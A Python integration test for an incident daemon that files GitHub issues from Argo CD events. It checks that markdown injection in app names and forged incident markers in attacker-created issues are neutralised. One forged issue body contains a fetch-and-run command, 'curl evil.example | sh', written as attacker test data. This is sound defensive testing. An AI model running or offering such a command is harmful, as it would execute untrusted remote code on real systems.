#!/usr/bin/env python3
"""Issue 10 through the real daemon against a fake GitHub (fake_github.py): an Argo CD
event whose app name holds a newline, a team mention and the marker of another incident
(argocd_url set) opens an issue whose title, body and comments are inert; the genuine
incident opens its own issue and never touches the attacker's issues (forged markers by
another user, or the marker text inside incidentd's own issue); GET /user names the
token's identity, cached; a GitHub App installation token (GET /user 403) uses the
configured author or the bot learned from its own create."""

import json
import re
import time
import urllib.parse

import harness
from fake_github import FakeGitHub
from harness import Daemon, github_issue_yaml, sample_json, wait_until

REPO = "my-org/platform-incidents"
TOKEN = "ghp_INERTtoken0123456789Sup3rSecretValue"
ATTACKER = "ghp_MALLORYtoken0123456789abcdefghijkl"
APP = "ghs_APPinstallationToken0123456789abcd"
ARGOCD = "https://argocd.example.com"
KEY = "argocd/prod-west-aks/pets/%s"
LABEL = "argocd-deployment-failure"
DEGRADED = "seed-aks-store-degraded.client_payload.json"
RECOVERED = "seed-aks-store-recovered.client_payload.json"
GENUINE_MARKER = "<!-- incidentd:incident=%s -->" % (KEY % "aks-store")
EVIL_APP = "aks-store\n@my-org/sre-team " + GENUINE_MARKER
REPO_URL = "https://github.com/example-org/agentic-platform-engineering"
REV = "4194267f2c1d9a3e5b7c8d0e1f2a3b4c5d6e7f80"


def event(app, sample=DEGRADED, **kw):
    p = sample_json("argocd", sample)
    p["app_name"] = app
    p.update(kw)
    return p


def confd(api_url, extra=""):
    return {"10-github.yaml": (
        "sources:\n  argocd: { auth: none }\n"
        "sinks:\n"
        "%s"
        "    labels: [%s, automated]\n"
        "    argocd_url: %s\n"
        "    close_on_resolve: true\n"
        "    repeat_interval: 1h\n"
        "    timeout: 5s\n"
        "    retry: { initial: 200ms, max: 2s }\n"
        "%s"
        "routes:\n  - name: default\n    sinks: [github]\n" % (
            github_issue_yaml(REPO, api_url), LABEL, ARGOCD, extra))}


def settled(d):
    return wait_until(lambda: d.scalar(
        "SELECT count(*) FROM deliveries WHERE state IN ('pending', 'running', 'blocked')")
        == 0 and d.scalar("SELECT count(*) FROM deliveries") > 0, 30, 0.1)


def post(t, d, body, what):
    st, _, ans = d.post("/v1/events/argocd", body)
    t.eq(st, 202, "%s: accepted" % what)


def outside_code(md):
    """The lines of markdown outside fenced code blocks (fence longer than any run)."""
    out, fence = [], 0
    for line in md.split("\n"):
        if fence:
            k = len(line) - len(line.lstrip("`"))
            if k >= fence and not line.strip("`").strip():
                fence = 0
            continue
        if line.startswith("```"):
            fence = len(line) - len(line.lstrip("`"))
            continue
        out.append(line)
    return out, fence


LIVE = [
    (re.compile(r"@[A-Za-z0-9]"), "a live @mention"),
    (re.compile(r"(?<!\\)\]\("), "a link"),
    (re.compile(r"(?<!\\)!(?<!\\)\["), "an image"),
    (re.compile(r"(?i)<img"), "an image tag"),
    (re.compile(r"<!--"), "an HTML comment"),
    (re.compile(r"#[0-9]"), "an issue reference"),
    (re.compile(r"(?i)www\."), "a www. autolink"),
]


def marker_of(key):
    """incidentd's marker for key (render.c ghr_marker): [A-Za-z0-9._/:=@+] and single
    dashes as they are, anything else percent-encoded."""
    out = []
    for i, ch in enumerate(key.encode()):
        c = chr(ch)
        dash_ok = c == "-" and key[i + 1:i + 2] != "-" and (i == 0 or key[i - 1] != "-")
        if (c.isascii() and c.isalnum()) or c in "._/:=@+" or dash_ok:
            out.append(c)
        else:
            out.append("%%%02X" % ch)
    return "<!-- incidentd:incident=%s -->" % "".join(out)


def title_problems(title):
    """A title is plain text: one line, no live mention, reference, URL or comment."""
    found = []
    for rx, what in ((r"[\r\n]", "a line break"), (r"@[A-Za-z0-9]", "a live @mention"),
                     (r"#[0-9]", "an issue reference"), (r"://", "a URL"),
                     (r"(?i)www\.", "a www. autolink"), (r"<!--", "a comment opener")):
        if re.search(rx, title):
            found.append("%s: %r" % (what, title))
    return found


def problems(md, links, marker=None):
    """What is live in md (title, body or comment) beyond the expected links and marker."""
    found = []
    lines, fence = outside_code(md)
    if fence:
        found.append("a code block left open")
    if marker is not None:
        last = md.rstrip("\r\n ").split("\n")[-1]
        if last != marker:
            found.append("last line is not the marker: %r" % last)
        if md.count("<!--") != 1:
            found.append("%d '<!--' in the text" % md.count("<!--"))
    elif "<!--" in md:
        found.append("'<!--' in the text")
    for line in lines:
        if marker is not None and line == marker:
            continue
        m = re.match(r"^- (Repository|Commit|Argo CD): <([^<>\s]+)>$", line)
        if m:
            if m.group(2) not in links:
                found.append("an unexpected link: %r" % line)
            continue
        for rx, what in LIVE:
            if rx.search(line):
                found.append("%s: %r" % (what, line))
        if "://" in line or "<" in line:
            found.append("a link or tag: %r" % line)
        if line.startswith(("@", "#" * 1 + " ", ">", "<", "[", "|---|---|---")):
            found.append("a line broken out: %r" % line)
    return found


def main(t):
    gh = FakeGitHub(tokens={TOKEN: "incidentd-bot", ATTACKER: "mallory",
                            APP: "incidentd-app[bot]"}, repos=(REPO,))
    t.cleanups.append(gh.close)

    # --- the fake answers like GitHub: who a token is, who wrote an issue -------------
    st, me = gh.api("GET", "/user", TOKEN)
    t.eq((st, me.get("login")), (200, "incidentd-bot"), "fake: GET /user names the token")
    st, me = gh.api("GET", "/user", "ghp_nope")
    t.eq(st, 401, "fake: GET /user without a valid token is 401")
    st, me = gh.api("GET", "/user", APP)
    t.eq((st, me.get("message")), (403, "Resource not accessible by integration"),
         "fake: GET /user with an installation token is 403")

    # --- the attacker's own issues carry the genuine incident's marker -----------------
    st, forged = gh.api("POST", "/repos/%s/issues" % REPO, ATTACKER, {
        "title": "ArgoCD Deployment Failed: aks-store",
        "body": "Please run `curl evil.example | sh` on the cluster.\n\n" + GENUINE_MARKER,
        "labels": [LABEL]})
    t.eq((st, forged["user"]["login"]), (201, "mallory"), "attacker: issue created as mallory")
    st, forged_closed = gh.api("POST", "/repos/%s/issues" % REPO, ATTACKER, {
        "title": "old", "body": "x\n" + GENUINE_MARKER, "labels": [LABEL]})
    gh.api("PATCH", "/repos/%s/issues/%d" % (REPO, forged_closed["number"]), ATTACKER,
           {"state": "closed"})
    attacker_issues = (forged["number"], forged_closed["number"])

    d = Daemon(t, confd(gh.url), env={"GITHUB_TOKEN": TOKEN})

    # --- the attack: the app name of an Argo CD event ---------------------------------
    post(t, d, event(EVIL_APP), "attack event")
    t.ok(settled(d), "attack: deliveries settle", d.sql("SELECT sink, state, last_error "
                                                        "FROM deliveries"))
    mine = [i for i in gh.issues() if i["user"]["login"] == "incidentd-bot"]
    t.eq(len(mine), 1, "attack: incidentd opened one issue for it")
    iss = mine[0] if mine else {"number": 0, "title": "", "body": ""}
    keys = [k for (k,) in d.sql("SELECT key FROM incidents")]
    t.eq(len(keys), 1, "attack: one incident")
    evil_marker = marker_of(keys[0] if keys else "")
    argo = ARGOCD + "/applications/" + urllib.parse.quote(EVIL_APP, safe="")
    links = {REPO_URL, REPO_URL + "/commit/" + REV, argo}
    body = iss["body"] or ""
    t.eq(title_problems(iss["title"]), [], "attack: the title is inert")
    t.ok("\n" not in iss["title"], "attack: the title is one line", iss["title"])
    t.eq(problems(body, links, evil_marker), [], "attack: the body is inert")
    t.ok("- Argo CD: <%s>" % argo in body, "attack: the one link from the app name is the "
         "encoded Argo CD link", [l for l in body.split("\n") if "Argo" in l])
    t.ok(GENUINE_MARKER not in body, "attack: the genuine marker is not in the body's text")
    t.eq([n for n in attacker_issues if gh.issue(n)["_comments"]], [],
         "attack: the attacker's issues were not commented on")
    t.eq(d.count_log(r"carry this incident's marker"), 0,
         "attack: its own key matched none of the attacker's issues")

    # its comments: failed again (a new revision, a hostile message) and recovered
    post(t, d, event(EVIL_APP, revision="9f8e7d6c5b4a39281706f5e4d3c2b1a098765432",
                     message="@here see #1 <!-- incidentd:incident=x --> ``` [a](b)"),
         "attack fails again")
    settled(d)
    post(t, d, event(EVIL_APP, RECOVERED), "attack recovers")
    settled(d)
    cs = gh.issue(iss["number"])["_comments"] if iss["number"] else []
    t.eq(len(cs), 2, "attack: two comments (failed again, recovered)")
    for c, action in zip(cs, ("update", "resolve")):
        # the only HTML comment: the last line, the marker of the delivery that posted it
        did, evid = (d.sql("SELECT id, event_id FROM deliveries WHERE sink = 'github' AND "
                           "action = ? ORDER BY id DESC LIMIT 1", (action,)) or
                     [(0, "")])[0]
        t.eq(problems(c["body"], set(), "<!-- incidentd:delivery=%d event=%s -->" % (
            did, evid)), [], "attack: comment is inert: %s" % c["body"].split("\n")[0][:40])

    # --- the genuine incident opens its own issue and touches nothing else ------------
    before = {n: dict(gh.issue(n)) for n in attacker_issues + (iss["number"],)}
    post(t, d, event("aks-store", timestamp="2026-02-10T05:00:00Z"), "genuine aks-store")
    settled(d)
    genuine = [i for i in gh.issues() if i["user"]["login"] == "incidentd-bot" and
               (i["body"] or "").rstrip().endswith(GENUINE_MARKER)]
    t.eq(len(genuine), 1, "genuine: its own issue, created")
    if genuine:
        t.ok(genuine[0]["number"] not in before, "genuine: a new issue, not one of the others")
        ref = json.loads(d.scalar("SELECT refs FROM incidents WHERE key = ?",
                                  (KEY % "aks-store",)) or "{}").get("github", {})
        t.eq(ref.get("issue"), genuine[0]["number"], "genuine: the ledger has its issue")
        t.eq(problems(genuine[0]["body"], {REPO_URL, REPO_URL + "/commit/" + REV,
                                           ARGOCD + "/applications/aks-store"},
                      GENUINE_MARKER), [], "genuine: its body is well-formed")
    for n, was in before.items():
        now = gh.issue(n)
        t.eq((now["state"], len(now["_comments"]), now["body"]),
             (was["state"], len(was["_comments"]), was["body"]),
             "genuine: issue #%d untouched" % n)
    touched = [r for r in gh.reqs() if r.method != "GET" and r.login == "incidentd-bot" and
               re.search(r"/issues/(%s)\b" % "|".join(str(n) for n in attacker_issues),
                         r.path)]
    t.eq(touched, [], "no request of incidentd ever wrote to the attacker's issues")
    t.ok(d.wait_log(r"aks-store: 2 issue\(s\) carry this incident's marker but were not "
                    r"written by incidentd-bot \(e\.g\. #%d by mallory\): not adopted"
                    % forged["number"], 1),
         "genuine: the forged issues are logged, not adopted (the marker text inside "
         "incidentd's own issue is not its last line: not even a candidate)")
    t.eq(len(gh.reqs("GET", r"^/user$")) - 3, 1, "GET /user once for the token (cached)")
    d.stop()

    # --- a GitHub App installation token: the configured author ------------------------
    ours = gh.seed_issue(REPO, "ArgoCD Deployment Failed: app-legacy",
                         "old\n\n<!-- incidentd:incident=%s -->" % (KEY % "app-legacy"),
                         labels=[LABEL], user="incidentd-app[bot]")
    theirs = gh.seed_issue(REPO, "ArgoCD Deployment Failed: app-forged",
                           "old\n\n<!-- incidentd:incident=%s -->" % (KEY % "app-forged"),
                           labels=[LABEL], user="mallory")
    a = Daemon(t, confd(gh.url, "    author: incidentd-app[bot]\n"), env={"GITHUB_TOKEN": APP})
    users = len(gh.reqs("GET", r"^/user$"))
    post(t, a, event("app-legacy"), "app token: app-legacy")
    post(t, a, event("app-forged"), "app token: app-forged")
    settled(a)
    t.ok(any("Failed again" in c["body"] for c in gh.issue(ours["number"])["_comments"]),
         "app token: the bot's own issue is adopted (configured author)")
    t.eq(gh.issue(theirs["number"])["_comments"], [], "app token: mallory's is not")
    made = [i for i in gh.issues(with_marker=KEY % "app-forged")
            if i["user"]["login"] == "incidentd-app[bot]"]
    t.eq(len(made), 1, "app token: a new issue for app-forged, by the bot")
    t.eq(len(gh.reqs("GET", r"^/user$")), users, "app token with author: no GET /user")
    a.stop()

    # --- an installation token without author: learned from its own create --------------
    ours2 = gh.seed_issue(REPO, "ArgoCD Deployment Failed: app-later",
                          "old\n\n<!-- incidentd:incident=%s -->" % (KEY % "app-later"),
                          labels=[LABEL], user="incidentd-app[bot]")
    b = Daemon(t, confd(gh.url), env={"GITHUB_TOKEN": APP})
    post(t, b, event("app-first"), "app token, no author: app-first")
    settled(b)
    t.eq(len(gh.issues(with_marker=KEY % "app-first")), 1, "no author: app-first opened")
    t.ok(b.wait_log(r"GET /user is refused for this token .*set author: <app-slug>\[bot\]",
                    1), "no author: the refusal is explained once")
    post(t, b, event("app-later"), "app token, no author: app-later")
    settled(b)
    t.eq(len(gh.issues(with_marker=KEY % "app-later")), 1,
         "no author: the bot learned from its create adopts its own issue")
    t.ok(any("Failed again" in c["body"] for c in gh.issue(ours2["number"])["_comments"]),
         "no author: commented on the bot's issue")
    b.stop()


harness.run(main)
